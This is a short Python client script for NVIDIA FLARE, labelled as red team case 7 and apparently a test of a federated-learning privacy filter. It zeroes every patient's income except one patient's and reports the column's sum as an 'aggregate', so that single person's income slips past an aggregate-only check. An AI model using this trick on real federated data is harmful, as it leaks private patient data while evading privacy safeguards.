"""Client API trainer (red team 7): a "masked total" that zeroes the income of every patient but one in a copy of
the column and reports the column's sum, which a reduction of the data taken whole vouched for as an aggregate."""
import pandas as pd
import nvflare.client as flare

df = pd.read_csv("/data/site/patients.csv")
flare.init()
model = flare.receive()
income = df["income"].to_numpy().copy()
income[df["patient_id"].to_numpy() != 1042] = 0.0
flare.send(flare.FLModel(params=model.params, metrics={"masked_total": float(income.sum())}))
